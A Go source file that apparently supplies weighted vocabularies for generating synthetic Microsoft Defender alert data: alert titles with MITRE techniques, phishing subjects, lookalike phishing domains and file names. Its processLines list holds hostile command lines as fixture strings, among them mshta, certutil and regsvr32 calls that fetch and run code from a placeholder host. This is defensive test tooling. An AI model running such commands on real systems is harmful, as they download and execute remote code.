package gen

// Vocabularies of the generated columns. Weights are per mille.

// profile picks the evidence entity mix of an alert.
type profile int

const (
	mail profile = iota
	endpoint
	identity
	cloud
)

type titleInfo struct {
	title     string
	weight    int
	category  string
	service   string
	detection string
	technique string
	profile   profile
	clicked   bool // the alert is about a clicked URL in a mail
}

// URLClickTitle is the title of the alert the seed rule hunts.
const URLClickTitle = "A potentially malicious URL click was detected"

var titles = []titleInfo{
	{URLClickTitle, 30, "InitialAccess", "Microsoft Defender for Office 365", "Microsoft Defender for Office 365", `["Spearphishing Link (T1566.002)"]`, mail, true},
	{"Email messages containing potentially malicious URL removed after delivery", 10, "InitialAccess", "Microsoft Defender for Office 365", "Microsoft Defender for Office 365", `["Phishing (T1566)"]`, mail, true},
	{"Email reported by user as malware or phish", 60, "InitialAccess", "Microsoft Defender for Office 365", "Microsoft Defender for Office 365", `["Phishing (T1566)"]`, mail, false},
	{"Email messages containing malicious URL removed after delivery", 40, "InitialAccess", "Microsoft Defender for Office 365", "Microsoft Defender for Office 365", `["Phishing (T1566)"]`, mail, false},
	{"Suspicious email sending patterns detected", 20, "SuspiciousActivity", "Microsoft Defender for Office 365", "Microsoft Defender for Office 365", `[]`, mail, false},
	{"Suspicious inbox manipulation rule", 30, "Persistence", "Microsoft Defender for Cloud Apps", "Microsoft Defender for Cloud Apps", `["Email Hiding Rules (T1564.008)"]`, cloud, false},
	{"Suspicious PowerShell command line", 120, "Execution", "Microsoft Defender for Endpoint", "EDR", `["PowerShell (T1059.001)"]`, endpoint, false},
	{"Suspicious process injection observed", 60, "DefenseEvasion", "Microsoft Defender for Endpoint", "EDR", `["Process Injection (T1055)"]`, endpoint, false},
	{"Ransomware behavior detected in the file system", 10, "Ransomware", "Microsoft Defender for Endpoint", "Antivirus", `["Data Encrypted for Impact (T1486)"]`, endpoint, false},
	{"'Wacatac' malware was prevented", 150, "Malware", "Microsoft Defender for Endpoint", "Antivirus", `[]`, endpoint, false},
	{"Unusual sign-in activity", 90, "InitialAccess", "Microsoft Entra ID Protection", "Microsoft Entra ID Protection", `["Valid Accounts (T1078)"]`, identity, false},
	{"Anonymous IP address", 110, "InitialAccess", "Microsoft Entra ID Protection", "Microsoft Entra ID Protection", `["Valid Accounts (T1078)"]`, identity, false},
	{"Impossible travel activity", 80, "InitialAccess", "Microsoft Defender for Cloud Apps", "Microsoft Defender for Cloud Apps", `["Valid Accounts (T1078)"]`, identity, false},
	{"Mass download by a single user", 60, "Exfiltration", "Microsoft Defender for Cloud Apps", "Microsoft Defender for Cloud Apps", `["Data from Cloud Storage (T1530)"]`, cloud, false},
	{"Suspected DCSync attack (replication of directory services)", 20, "CredentialAccess", "Microsoft Defender for Identity", "Microsoft Defender for Identity", `["DCSync (T1003.006)"]`, identity, false},
	{"Custom detection: rare parent process", 110, "Execution", "Microsoft Defender for Endpoint", "Custom detection", `[]`, endpoint, false},
}

var severities = []string{"Informational", "Low", "Medium", "High"}
var severityWeights = []int{250, 350, 300, 100}

// Entity types of evidence and their weights per profile.
var entityTypes = []string{"MailMessage", "Url", "User", "Mailbox", "File", "Ip", "Process", "Machine", "CloudApplication", "MailCluster"}

var entityWeights = map[profile][]int{
	mail:     {350, 250, 150, 150, 40, 20, 0, 0, 0, 40},
	endpoint: {10, 40, 150, 0, 300, 100, 250, 150, 0, 0},
	identity: {20, 20, 450, 80, 0, 300, 0, 100, 30, 0},
	cloud:    {60, 60, 350, 150, 100, 100, 0, 0, 180, 0},
}

var evidenceRoles = []string{"Impacted", "Related"}

var subjects = []string{
	"Invoice #4471 overdue", "Your mailbox is almost full", "Shared document: Q3 plan", "Action required: verify your account",
	"Payroll update", "DocuSign: please review", "Voicemail from +1 206 555 0100", "Password expires today",
	"Team offsite agenda", "Delivery notification", "RE: contract draft", "Security alert for your account",
}

var urlHosts = []string{
	"login-micros0ft.com", "secure-docs.net", "contoso.sharepoint.com", "bit.ly", "fabrikam-invoices.com",
	"updates.vendor.com", "marketing.contoso.com", "internal.contoso.com", "10.0.0.1", "cdn.example.org",
	"dropbox.com", "docusign-review.info", "paypa1-secure.com", "github.com", "office.com",
}

var urlPaths = []string{"/", "/login", "/invoice.pdf", "/share?id=", "/verify?u=", "/download/setup.exe", "/track?c=", "/doc/view"}

var actionTypes = []string{"ClickAllowed", "ClickBlocked", "ClickBlockedByTenantPolicy", "UrlScanInProgress", "UrlErrorPage"}
var actionWeights = []int{700, 150, 50, 60, 40}

var workloads = []string{"Email", "Teams", "Office"}
var workloadWeights = []int{800, 120, 80}

var threatTypes = []string{"", "Phish", "Malware", "Spam", "Phish,Malware"}
var threatWeights = []int{700, 180, 60, 40, 20}

var detectionMethods = []string{"", `{"Phish":["URL detonation reputation"]}`, `{"Malware":["File detonation"]}`, `{"Phish":["URL malicious reputation"]}`, `{"Spam":["Advanced filter"]}`}

var firstNames = []string{"alex", "sam", "kim", "lee", "pat", "dana", "chris", "robin", "jo", "max", "noor", "yuki", "ana", "omar", "li", "eva"}
var lastNames = []string{"smith", "garcia", "chen", "okafor", "muller", "rossi", "kowalski", "silva", "nguyen", "tanaka", "haddad", "jones"}

var fileNames = []string{"invoice.pdf.exe", "setup.exe", "report.docm", "payload.dll", "update.ps1", "scan.js", "readme.lnk", "archive.zip"}
var processLines = []string{
	"powershell.exe -enc SQBFAFgA", "cmd.exe /c whoami", "rundll32.exe payload.dll,Start", "mshta.exe http://x/a.hta",
	"wscript.exe scan.js", "certutil.exe -urlcache -f http://x/a", "regsvr32.exe /s /i:http://x/a scrobj.dll",
}
